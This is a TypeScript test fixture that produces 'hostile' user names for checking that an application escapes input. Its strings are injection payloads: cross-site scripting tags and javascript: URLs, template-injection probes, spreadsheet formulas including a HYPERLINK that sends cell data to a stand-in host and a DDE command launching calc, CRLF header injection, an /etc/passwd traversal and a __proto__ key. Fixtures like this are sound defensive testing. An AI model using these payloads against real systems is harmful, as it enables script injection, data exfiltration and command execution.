/** Name that would be a picture and a script wherever text becomes markup, and end a tag, a title or an attribute. */
export const MARKUP = `'"></title><img src=x onerror=hit(1)><script>hit(2)</script>{{7*7}}`

/** Number of characters of the longest names that the server accepts. */
const LONGEST = 120

/**
 * Names that attack a page, a template, an address, a table of a spreadsheet, a replacement of text, an object of JavaScript, or
 * the layout. Each contains at most 120 characters.
 */
const names: readonly string[] = [
  MARKUP,
  `javascript:hit(3)//"onmouseover="hit(4)" style="background:url(https://elsewhere.example/a)`,
  '=HYPERLINK("https://elsewhere.example/?"&A1,"see")',
  '\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Fright',
  '</textarea></style></noscript><iframe src=https://elsewhere.example/></iframe><svg onload=hit(5)>',
  `\${7*7} #{7*7} <%=7*7%> $& $1 $' %s %00 %0d%0aSet-Cookie:a=b`,
  '[see](javascript:hit(6)) ![x](https://elsewhere.example/p.png) **b**',
  'W'.repeat(LONGEST),
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '__proto__',
  'null',
  '\u{1F9D1}\u200D\u{1F3ED} e\u0301\u0323\u0324\u0325 \uFF1D1+1 ../../../etc/passwd?x#y&z',
  `<style>*{display:none}</style><base href=https://elsewhere.example/><link rel=stylesheet href=//elsewhere.example/c>`,
]

/** Hands out hostile names one after the other, each once; names of a further round end with its number. */
export class HostileNames {
  #count = 0

  next(): string {
    const round = Math.floor(this.#count / names.length)
    const name = names[this.#count++ % names.length] ?? ''
    return round === 0 ? name : `${name.slice(0, LONGEST - 4)} ${round}`
  }

  /** Returns so many names; the first is always markup. */
  list(count: number): string[] {
    while (this.#count % names.length !== 0) this.#count++
    return Array.from({ length: count }, () => this.next())
  }
}

/** Long text with all names, as notes are. */
export const allNames = (): string => names.join('\n')
